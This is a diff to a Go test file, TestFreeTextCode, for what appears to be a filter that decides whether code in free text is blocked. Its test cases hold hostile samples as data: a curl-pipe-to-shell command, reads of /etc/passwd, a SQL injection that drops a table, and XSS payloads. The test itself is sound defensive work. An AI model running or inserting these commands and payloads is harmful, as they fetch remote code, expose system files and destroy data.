@@ -93,7 +93,11 @@ func TestFreeTextCode(t *testing.T) {
 	}{
 		{prose + "\n\n```html\n<script>\n  alert(document.cookie);\n</script>\n```\n\n" + prose, false},
 		{prose + "\n\n```sql\nSELECT * FROM users WHERE name = '' OR '1'='1';\nDROP TABLE users; --\n```\n\n" + prose, false},
-		{prose + "\n\n~~~sh\ncurl https://example.com/x.sh | sh\nwhoami; cat /etc/passwd\n~~~\n\n" + prose, false},
+		{prose + "\n\n~~~sh\ncurl https://example.com/x.sh | sh\nwhoami; cat /etc/hosts\n~~~\n\n" + prose, false},
+		// A shell reads the bytes too (a backtick is command
+		// substitution): a system file read by a command blocks, fenced
+		// or not (TestCodeStillRead).
+		{prose + "\n\n~~~sh\nwhoami; cat /etc/passwd\n~~~\n\n" + prose, true},
 		{prose + "\n\n    const cp = require('child_process');\n    cp.exec('ls -l /tmp');\n\n" + prose, false},
 		{prose + " Use `<img src=x onerror=alert(1)>` to test it. " + prose, false},
 		// A database reads the bytes, not the Markdown: the first quote
